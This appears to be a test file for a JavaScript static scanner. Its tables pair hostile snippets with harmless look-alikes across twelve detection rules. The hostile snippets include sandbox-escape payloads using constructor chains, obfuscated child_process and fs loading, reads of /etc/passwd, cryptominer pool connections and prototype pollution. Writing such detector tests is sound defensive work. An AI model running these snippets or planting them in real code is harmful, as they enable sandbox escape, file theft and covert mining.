import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import type { PatternName } from '../../contract/verdict.ts'
import { inspect } from '../inspect.ts'
import { patterns } from '../patterns.ts'
import { rules } from './rules.ts'

function namesIn(code: string, language?: 'js' | 'ts'): string[] {
  const { found, syntaxError } = inspect({ code, entry: 'auto', files: [], language })
  assert.equal(syntaxError, undefined, code)
  return found.map(({ name }) => name)
}

interface Table {
  readonly finds: readonly string[]
  readonly passes: readonly string[]
}

const tables: Record<
  Exclude<PatternName, 'UNPARSED' | 'UNREAD_DEPENDENCY' | 'OBFUSCATION'>,
  Table
> = {
  VM_ESCAPE: {
    finds: [
      'this.constructor.constructor("return process")()',
      '[]["const" + "ructor"]["constr\\u0075ctor"]("return this")()',
      '(function () {}).constructor("return process")()',
      'const C = "constructor"; ({})[C][C]("return 1")()',
      'const { constructor: { constructor: F } } = {}; F("return this")()',
      '(() => {}).constructor`return process`()',
      'Object.getPrototypeOf(async function () {}).constructor("return process")()',
      'Reflect.get(Reflect.get({}, "constructor"), "constructor")("return 1")',
      'Error.prepareStackTrace = (e, frames) => frames[0].getThis()',
      'process["bind" + "ing"]("fs")',
      'const o = {}; o.constructor("return process")',
      'let f = console.log; f.constructor("return process")()',
      'arguments.callee.caller',
      'const { log: { constructor: F } } = console; F("return 1")()',
      'const k = ["constr", "uctor"].join(""); ""[k][k]("return 1")()',
      '"".sub.constructor("return globalThis")()',
      'Object.defineProperty(Error, "prepareStackTrace", { value: (e, frames) => frames })',
      'Object.assign(Error, { prepareStackTrace: (e, frames) => frames[0].getThis() })',
      'Reflect.set(Error, "prepare" + "StackTrace", input)',
      'const F = (() => {}).constructor; F("return 1")()',
      'export const F = (() => {}).constructor',
    ],
    passes: [
      'class A { constructor() { this.x = 1 } }',
      'return input.constructor.name',
      'if (input.constructor === Object) return 1',
      'return "this.constructor.constructor"',
      '// x.constructor.constructor("return process")()\nreturn 1',
      'class A { clone() { return new this.constructor() } }',
      'const constructor = { constructor: 1 }; return constructor.constructor',
      'return (function () {}).constructor === Function',
      'return typeof input.constructor.constructor',
      'return input.constructor.prototype',
      'return Error.prepareStackTrace',
      'return event.target.constructor',
      'class A {} A.constructor = input',
      'const C = input.child.constructor; return new C(1)',
      'return Object.getPrototypeOf(input)',
      'return /constructor\\.constructor/.test(input)',
      'throw new input.constructor("failed to process the request")',
      'class E extends Error { as() { return new this.constructor("cannot require this. Process it first") } } return E',
      'return new input.constructor("return this value")',
      'const AsyncFunction = (async () => {}).constructor; return input instanceof AsyncFunction',
      'Object.defineProperty(Error, "stackTraceLimit", { value: 5 })',
    ],
  },
  CRYPTOMINING: {
    finds: [
      'new CoinHive.Anonymous("key").start()',
      'new globalThis["Coin" + "Hive"].User("key")',
      'const { CoinHive: M } = window; new M.Anonymous("k")',
      'new WebSocket("stratum+tcp://pool.example:3333")',
      'new WebSocket(["wss:", "", "coinhive.com", "proxy"].join("/"))',
      'fetch(atob("aHR0cHM6Ly9jb2luaGl2ZS5jb20vbGliL2NvaW5oaXZlLm1pbi5qcw=="))',
      'importScripts("https://coin-hive.com/lib/coinhive.min.js")',
      'const net = require("net"); net.connect({ host: "xmr.nanopool.org", port: 14433 })',
      'import m from "xmrig"; m()',
      'require("child_process").exec("xmrig -o pool")',
      'new CryptoNight().hash(input)',
      'client.connect("stratum+ssl://eu.pool.example")',
      'import { spawn } from "node:child_process"; spawn("m", ["-o", "stratum+tcp://pool.example"])',
      'const c = require("crypto"); let n = 0; let h; do { h = c.createHash("sha256").update(input + n++).digest("hex") } while (!h.startsWith("0000"))',
    ],
    passes: [
      'return "stratum+tcp://pool.example"',
      'console.log("coinhive.com is blocked")',
      'const blocked = new Set(["coinhive.com"]); return blocked.has(input)',
      '// new CoinHive.Anonymous("key")\nreturn 1',
      'const CoinHive = { Anonymous: class {} }; return new CoinHive.Anonymous()',
      'const o = { cryptonight: 1 }; return o.cryptonight',
      'return input.includes("xmrig")',
      'function cryptonight(x) { return x } return cryptonight(1)',
      'return typeof CoinHive',
      'import { spawn } from "node:child_process"; spawn("m", ["-o", , "pool.example", 1, null])',
      'let nonce = 0; while (nonce < 10) nonce++; return nonce',
      'const c = require("crypto"); return c.createHash("sha256").update("a").digest("hex")',
      'const mining = "gold"; return mining',
    ],
  },
  CHILD_PROCESS: {
    finds: [
      'require("child_process").exec("ls")',
      'import { spawn } from "node:child_process"; spawn("ls")',
      'const m = "child" + "_process"; require(m)',
      'require("child\\u005fprocess")',
      'const { execSync: run } = require("child_process"); run("id")',
      'const r = require; r(["child", "process"].join("_"))',
      'const cp = await import("node:child_process"); cp.fork("x.js")',
      'process.mainModule.require("child_process").execSync("id")',
      'process.getBuiltinModule("child_process")',
      'globalThis["require"](atob("Y2hpbGRfcHJvY2Vzcw=="))',
      'export * from "child_process"',
      'process.binding("spawn_sync")',
      'Deno.run({ cmd: ["ls"] })',
    ],
    passes: [
      'return "child_process"',
      '// require("child_process")\nreturn 1',
      'const exec = (x) => x; return exec("ls")',
      'return /a/.exec(input)',
      'const spawn = { spawn() {} }; spawn.spawn("x")',
      'function require(x) { return x } return require("child_process")',
      'const o = { child_process: 1 }; return o.child_process',
      'return `child_process ${input}`',
      'class Child { fork() {} } new Child().fork()',
      'return input.spawn("x")',
      'import cp from "./child_process.js"; cp()',
    ],
  },
  PROCESS_ACCESS: {
    finds: [
      'process.exit(1)',
      'return process.env.HOME',
      'globalThis["pro" + "cess"].exit()',
      '\\u0070rocess.exit()',
      'const { env } = process; return env.KEY',
      'const g = globalThis; return g.process.pid',
      'return global[`proc${"ess"}`]',
      'const p = self.process; p.kill(1)',
      'return this["process"]',
      'return Function("return process")().env',
      'import p from "node:process"; p.exit()',
      'return window[String.fromCharCode(112, 114, 111, 99, 101, 115, 115)].env',
      'let p; p = process; p.abort()',
      'let s = "pro"; s += "ce"; s += "ss"; globalThis[s].exit()',
      'return globalThis[[..."process"].join("")]',
      '(function (g) { g.process.exit() })(globalThis)',
      'return globalThis["ssecorp".split("").reverse().join("")]',
      'return [process][0].env',
      'const { ["pro" + "cess"]: p } = globalThis; p.exit()',
    ],
    passes: [
      'return "process.exit()"',
      '// process.exit()\nreturn 1',
      'const process = { exit() {} }; process.exit()',
      'return input.process.exit()',
      'function process(x) { return x } return process(input)',
      'return typeof process',
      'return typeof process === "undefined"',
      'const o = { process: 1, env: 2 }; return o.process',
      'return ((process) => process.env)(input)',
      'process: for (;;) break process',
      'class A { process() {} } new A().process()',
      'const { process } = input; return process.env',
      'return /process/.test(input)',
      'return new input.constructor("process")',
    ],
  },
  FILESYSTEM: {
    finds: [
      'require("fs").readFileSync("/etc/passwd")',
      'import fs from "node:fs"; fs.rmSync("x")',
      'import { readFile } from "fs/promises"; await readFile("x")',
      'const f = require("f" + "s"); f.unlinkSync("x")',
      'const { writeFileSync: w } = require("node:fs"); w("a", "b")',
      'const fs = await import("fs"); fs.readdirSync("/")',
      'require("\\x66\\x73").statSync("/")',
      'const r = require; const m = r("fs"); m.mkdirSync("x")',
      'process.binding("fs")',
      'process.getBuiltinModule("fs").openSync("x")',
      'export { readFileSync } from "node:fs"',
      'require(["f", "s"].join(""))',
      'await Deno.readTextFile("/etc/passwd")',
    ],
    passes: [
      'return "fs"',
      '// require("fs")\nreturn 1',
      'const fs = { readFileSync: () => 1 }; return fs.readFileSync()',
      'return input.readFile("x")',
      'const o = { fs: 1 }; return o.fs',
      'function require(x) { return x } return require("fs")',
      'import fs from "./fs.js"; fs()',
      'return `fs.readFileSync(${input})`',
      'import path from "node:path"; path.join("a")',
      'class File { open() {} } new File().open()',
      'return require("crypto").randomUUID()',
    ],
  },
  PROTOTYPE_POLLUTION: {
    finds: [
      'Object.prototype.polluted = true',
      '({}).__proto__.polluted = true',
      'input["__pro" + "to__"]["x"] = 1',
      'input.constructor.prototype.x = 1',
      'const P = Object.prototype; P.toString = () => "x"',
      'Object.defineProperty(Object.prototype, "x", { value: 1 })',
      'Object.assign(Array.prototype, { at: 1 })',
      'JSON.parse(\'{"__proto__": {"x": 1}}\')',
      'input.__proto__ = { admin: true }',
      'Reflect.set(Object.prototype, "x", 1)',
      'const { prototype: p } = Object; p.x = 1',
      'Object.getPrototypeOf({}).x = 1',
      '[input["__proto__"].x] = [1]',
      'delete Array.prototype.push',
      'Object.prototype.__defineGetter__("x", () => 1)',
    ],
    passes: [
      'return { __proto__: null }',
      'const p = input.__proto__; return p === null',
      'function A() {} A.prototype.x = 1; return new A()',
      'if (input === "__proto__") return 1',
      'return Object.create(null)',
      '// Object.prototype.x = 1\nreturn 1',
      'return "Object.prototype.x = 1"',
      'class Object2 {} Object2.prototype.y = 1',
      'return Object.prototype.hasOwnProperty.call(input, "a")',
      'return Array.prototype.slice.call(input)',
      'const Object = { prototype: {} }; Object.prototype.x = 1',
      'return Object.assign({}, input)',
      'return JSON.parse("{\\"proto\\": 1}")',
    ],
  },
  EVAL: {
    finds: [
      'eval("1")',
      '(0, eval)("1")',
      'new Function("return 1")()',
      'return Function("a", "return a")(1)',
      'globalThis["ev" + "al"]("1")',
      'const e = eval; e("1")',
      '\\u0065val("1")',
      'setTimeout("x()", 1)',
      'const { eval: run } = globalThis; run("1")',
      'const F = Function; new F("return 1")',
      'Reflect.construct(Function, ["return 1"])',
      'require("vm").runInThisContext("1")',
      'await import("data:text/javascript,export default 1")',
      'eval.call(null, "1")',
      'window?.eval("1")',
      'Function.apply(null, ["return 1"])',
      'new (class extends Function {})("return 1")',
    ],
    passes: [
      'return "eval(1)"',
      '// eval("1")\nreturn 1',
      'const o = { eval: () => 1 }; return o.eval()',
      'return input.eval("1")',
      'return input instanceof Function',
      'setTimeout(() => 1, 1)',
      'return typeof eval',
      'function evaluate(x) { return x } return evaluate(1)',
      'return Function.prototype.call.length',
      'const setTimeout = (x) => x; return setTimeout("x()")',
      'class Function2 {} return new Function2("x")',
      'const evil = "eval"; return evil.length',
    ],
  },
  BUFFER_OVERFLOW: {
    finds: [
      'Buffer.alloc(1e9)',
      'new ArrayBuffer(1024 * 1024 * 1024)',
      'new Uint8Array(2 ** 30)',
      'return "x".repeat(1 << 28)',
      'new Array(1e9).fill(0)',
      'Array(0x7fffffff)',
      'const size = 500 * 1024 * 1024; Buffer.allocUnsafe(size)',
      'const A = ArrayBuffer; new A(1e9)',
      'new globalThis["Array" + "Buffer"](1e9)',
      'new Float64Array(16_777_216)',
      'Array.from({ length: 1e8 })',
      'new WebAssembly.Memory({ initial: 65536 })',
      'return "a".padEnd(1e9)',
      'const { alloc } = Buffer; alloc(parseInt("3b9aca00", 16))',
    ],
    passes: [
      'Buffer.alloc(1024)',
      'new ArrayBuffer(65536)',
      'new Uint8Array(input)',
      'return "x".repeat(100)',
      'new Array(10)',
      'return [1e9, 1e10]',
      'const size = 1e9; return size',
      'return "new ArrayBuffer(1e9)"',
      '// Buffer.alloc(1e9)\nreturn 1',
      'const Buffer = { alloc() {} }; Buffer.alloc(1e9)',
      'return new Array(1e9, 2)',
      'return input.repeat(3)',
      'return Array.from({ length: 10 })',
    ],
  },
  NETWORK: {
    finds: [
      'fetch("https://example.com")',
      'globalThis["fe" + "tch"]("x")',
      'const f = fetch; f("x")',
      'new XMLHttpRequest()',
      'new WebSocket("wss://x")',
      'require("http").get("http://x")',
      'import https from "node:https"; https.get("x")',
      'const { connect } = require("net"); connect(80)',
      '\\u0066etch("x")',
      'const dns = await import("dns/promises"); dns.lookup("x")',
      'navigator.sendBeacon("x")',
      'new EventSource("x")',
      'const { fetch: get } = window; get("x")',
      'import axios from "axios"; axios.get("x")',
    ],
    passes: [
      'return "fetch"',
      '// fetch("x")\nreturn 1',
      'const fetch = () => 1; return fetch()',
      'return input.fetch("x")',
      'return typeof fetch',
      'const o = { WebSocket: 1 }; return o.WebSocket',
      'return new URL("https://example.com").host',
      'function request(x) { return x } return request("http")',
      'return "https://example.com"',
      'import net from "./net.js"; net()',
      'return ((fetch) => fetch(1))(input)',
      'class Fetcher { fetch() {} } new Fetcher().fetch()',
    ],
  },
  REQUIRE: {
    finds: [
      'require("x")',
      'const r = require; r("x")',
      'globalThis["req" + "uire"]("x")',
      '\\u0072equire("x")',
      'module.require("x")',
      'require.resolve("x")',
      'import { createRequire } from "module"; createRequire(import.meta.url)("x")',
      'process.mainModule.require("x")',
      'process.getBuiltinModule("x")',
      'const { require: load } = module; load("x")',
      '[require][0]("x")',
      'return global["require"]',
    ],
    passes: [
      'return "require"',
      '// require("x")\nreturn 1',
      'function require(x) { return x } return require("x")',
      'return input.require("x")',
      'return typeof require',
      'return typeof require === "function"',
      'const o = { require: true }; return o.require',
      'return ((require) => require("x"))(input)',
      'const required = 1; return required',
      'class A { require() {} } new A().require()',
      'const { require } = input; require("x")',
    ],
  },
  IMPORT: {
    finds: [
      'import a from "a"; a()',
      'import * as b from "b"; b.c()',
      'import { d } from "d"; d()',
      'import "e"',
      'export * from "f"',
      'export { g } from "g"',
      'await import("h")',
      'const i = "i" + "j"; import(i)',
      'import(input)',
      'importScripts("k.js")',
      'import data from "./l.json" with { type: "json" }; export default data',
      'import.defer("m")',
    ],
    passes: [
      'return "import a from \'a\'"',
      '// import a from "a"\nreturn 1',
      'const o = { import: 1 }; return o.import',
      'return input.import("x")',
      'export const a = 1',
      'export default 1',
      'const important = 1; return important',
      'return `import(${input})`',
      'export default import.meta.url',
      'const a = 1; export { a }',
      'class A { import() {} } new A().import()',
    ],
  },
  TIMING_ATTACK: {
    finds: [
      'performance.now()',
      'const t = performance.now(); f(); return performance.now() - t',
      'process.hrtime()',
      'process.hrtime.bigint()',
      'const t = Date.now(); f(); return Date.now() - t',
      'globalThis["perform" + "ance"].now()',
      'const { now } = performance; now()',
      '\\u0070erformance.now()',
      'import { performance } from "node:perf_hooks"; performance.now()',
      'const p = performance; p.mark("x")',
      'const a = new Date(); f(); return new Date() - a',
      'new SharedArrayBuffer(8)',
      'Atomics.wait(input, 0, 0)',
    ],
    passes: [
      'return Date.now()',
      'return new Date().toISOString()',
      'return "performance.now()"',
      '// performance.now()\nreturn 1',
      'const performance = { now: () => 1 }; return performance.now()',
      'return input.performance.now()',
      'return typeof performance',
      'const o = { now: 1 }; return o.now - 1',
      'return input.end - input.start',
      'return Date.UTC(2020, 1)',
      'const hrtime = () => 1; return hrtime()',
      'return new Date(input).getFullYear()',
    ],
  },
}

for (const [name, { finds, passes }] of Object.entries(tables)) {
  for (const code of finds) {
    test(`S3-19: ${name} is found in: ${code}`, () => {
      assert.ok(namesIn(code).includes(name), namesIn(code).join())
    })
  }
  for (const code of passes) {
    test(`S3-19: ${name} is not found in its look-alike: ${JSON.stringify(code)}`, () => {
      assert.ok(!namesIn(code).includes(name))
    })
  }
}

test('S3-19: each rule has at least ten positives and ten look-alikes', () => {
  for (const rule of rules) {
    const table = tables[rule.name as keyof typeof tables]
    assert.ok(table.finds.length >= 10 && table.passes.length >= 10, rule.name)
  }
  assert.equal(rules.length, 12)
})

test('S3-19 and S3-20: scores and severities are those of the table, OBFUSCATION being the thirteenth', () => {
  const table = Object.entries(patterns).map(
    ([name, { score, severity }]) => `${name} ${score} ${severity}`,
  )
  assert.deepEqual(table, [
    'VM_ESCAPE 100 critical',
    'CRYPTOMINING 95 critical',
    'CHILD_PROCESS 95 critical',
    'PROCESS_ACCESS 90 critical',
    'FILESYSTEM 85 critical',
    'PROTOTYPE_POLLUTION 85 critical',
    'EVAL 80 critical',
    'BUFFER_OVERFLOW 80 high',
    'NETWORK 75 high',
    'REQUIRE 70 high',
    'IMPORT 70 high',
    'TIMING_ATTACK 40 medium',
    'OBFUSCATION 60 medium',
    'UNPARSED 90 critical',
    'UNREAD_DEPENDENCY 60 medium',
  ])
})

test('S3-20: the guide to effects lists each pattern with its score, severity and description', () => {
  const guide = new URL('../../../docs/how-to/effects.md', import.meta.url)
  const rows = readFileSync(guide, 'utf8').match(/^\| `[A-Z_]+` .*$/gm)
  assert.deepEqual(
    rows,
    Object.entries(patterns).map(
      ([name, { score, severity, description }]) =>
        `| \`${name}\` | ${score} | ${severity} | ${description} |`,
    ),
  )
})
